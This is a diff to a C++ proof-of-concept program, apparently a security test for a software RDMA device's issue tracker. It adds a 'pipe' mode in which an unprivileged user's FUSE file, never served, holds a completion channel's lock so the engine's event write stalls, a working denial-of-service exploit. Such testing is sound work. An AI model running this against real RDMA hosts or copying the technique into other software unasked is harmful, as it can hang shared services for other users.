@@ -1,6 +1,6 @@
 // Issue 40, item 1: memory whose pages a user's FUSE daemon serves, under an MR. Run as
 // an unprivileged user:
-//   fuse_memory_attack DEVICE MOUNT_DIR [swap]
+//   fuse_memory_attack DEVICE MOUNT_DIR [swap|pipe]
 // A child enters a user and mount namespace of its own, mounts a FUSE filesystem of its
 // own making on MOUNT_DIR (straight through /dev/fuse) and serves it: one 64 KiB file,
 // whose READ it never answers. It hands the open file to the parent (SCM_RIGHTS), which
@@ -27,6 +27,7 @@
 #include "raw_migrate_id.hpp"
 #include "softhca/device_interface/socket_io.hpp"
 
+#include <atomic>
 #include <chrono>
 #include <csignal>
 #include <cstdint>
@@ -34,6 +35,7 @@
 #include <cstring>
 #include <fcntl.h>
 #include <linux/fuse.h>
+#include <poll.h>
 #include <rdma/rdma_cma.h>
 #include <sched.h>
 #include <string>
@@ -328,12 +330,106 @@ void swap_and_receive(const attack::Side& side, int file) {
     std::printf("swapped: no completion\n");
 }
 
+// One 8-byte SEND from `sender` into `receiver`'s posted receive, and its two completions
+// taken from `cq` (at most 5 s).
+void exchange(ibv_qp* receiver, ibv_qp* sender, ibv_mr* mr, ibv_cq* cq) {
+    ibv_sge sge{reinterpret_cast<uint64_t>(mr->addr), 8, mr->lkey};
+    ibv_recv_wr receive{};
+    ibv_recv_wr* bad_receive = nullptr;
+    receive.sg_list = &sge;
+    receive.num_sge = 1;
+    ibv_send_wr send{};
+    ibv_send_wr* bad_send = nullptr;
+    send.sg_list = &sge;
+    send.num_sge = 1;
+    send.opcode = IBV_WR_SEND;
+    send.send_flags = IBV_SEND_SIGNALED;
+    if (ibv_post_recv(receiver, &receive, &bad_receive) != 0 ||
+        ibv_post_send(sender, &send, &bad_send) != 0)
+        attack::die("post an exchange");
+    const auto posted = std::chrono::steady_clock::now();
+    for (int done = 0; done < 2;) {
+        ibv_wc wc{};
+        const int n = ibv_poll_cq(cq, 1, &wc);
+        if (n < 0 || std::chrono::steady_clock::now() - posted > std::chrono::seconds(5))
+            attack::die("complete an exchange");
+        done += n;
+    }
+}
+
+// The "pipe" mode: a completion channel whose reader holds the pipe's lock on a FUSE page.
+// One event waits in the channel; a thread reads it into the FUSE file mapped privately,
+// and the copy asks the daemon for the page with the pipe's lock held. The CQ is armed
+// again and a second completion made: the engine's write of its event waits for that
+// lock. Printed: "pipe: posted", then "pipe: reader got N (ERRNO) after M ms" when the
+// reader's read returns (counted from the second exchange), or "pipe: reader still
+// held" after 20 s.
+void hold_channel(const attack::Side& side, int file) {
+    ibv_comp_channel* channel = ibv_create_comp_channel(side.context);
+    if (!channel)
+        attack::die("ibv_create_comp_channel");
+    attack::Side own = side;
+    own.cq = ibv_create_cq(side.context, 16, nullptr, channel, 0);
+    if (!own.cq)
+        attack::die("ibv_create_cq");
+    void* memory = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE,
+                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+    ibv_mr* mr = ibv_reg_mr(side.pd, memory, 4096, IBV_ACCESS_LOCAL_WRITE);
+    if (!mr)
+        attack::die("register the exchange buffer");
+    ibv_qp* receiver = attack::make_qp(own);
+    ibv_qp* sender = attack::make_qp(own);
+    attack::connect_qp(receiver, sender->qp_num, side.gid);
+    attack::connect_qp(sender, receiver->qp_num, side.gid);
+    if (ibv_req_notify_cq(own.cq, 0) != 0)
+        attack::die("ibv_req_notify_cq");
+    exchange(receiver, sender, mr, own.cq);
+    pollfd ready{channel->fd, POLLIN, 0};
+    if (::poll(&ready, 1, 5000) != 1)
+        attack::die("the first event never came");
+    void* page = ::mmap(nullptr, kFileSize, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
+    if (page == MAP_FAILED)
+        attack::die("map the FUSE file");
+    std::atomic<bool> returned{false};
+    ssize_t got = 0;
+    int got_errno = 0;
+    std::thread reader([&] {
+        got = ::read(channel->fd, page, 8);
+        got_errno = got < 0 ? errno : 0;
+        returned.store(true);
+    });
+    ::usleep(500 * 1000); // the reader is in the daemon's hands, the pipe's lock held
+    if (returned.load())
+        attack::die("the reader was not held");
+    if (ibv_req_notify_cq(own.cq, 0) != 0)
+        attack::die("ibv_req_notify_cq again");
+    std::printf("pipe: posted\n");
+    std::fflush(stdout);
+    const auto posted = std::chrono::steady_clock::now();
+    exchange(receiver, sender, mr, own.cq);
+    while (!returned.load() && std::chrono::steady_clock::now() - posted < std::chrono::seconds(20))
+        ::usleep(1000);
+    if (!returned.load()) {
+        std::printf("pipe: reader still held\n");
+        std::fflush(stdout);
+        reader.detach();
+        return;
+    }
+    reader.join();
+    const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
+                        std::chrono::steady_clock::now() - posted)
+                        .count();
+    std::printf("pipe: reader got %zd (%s) after %lld ms\n", got,
+                got_errno ? strerrorname_np(got_errno) : "0", static_cast<long long>(ms));
+}
+
 } // namespace
 
 int main(int argc, char** argv) {
     const bool swap = argc == 4 && std::strcmp(argv[3], "swap") == 0;
-    if (argc != 3 && !swap) {
-        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR [swap]\n", argv[0]);
+    const bool pipe = argc == 4 && std::strcmp(argv[3], "pipe") == 0;
+    if (argc != 3 && !swap && !pipe) {
+        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR [swap|pipe]\n", argv[0]);
         return 2;
     }
     int channel[2];
@@ -353,8 +449,11 @@ int main(int argc, char** argv) {
     std::fflush(stdout);
     const int file = receive_file(channel[0]);
     const attack::Side side = attack::open_side(argv[1]);
-    if (swap) {
-        swap_and_receive(side, file);
+    if (swap || pipe) {
+        if (swap)
+            swap_and_receive(side, file);
+        else
+            hold_channel(side, file);
         std::printf("holding\n");
         std::fflush(stdout);
         for (;;)
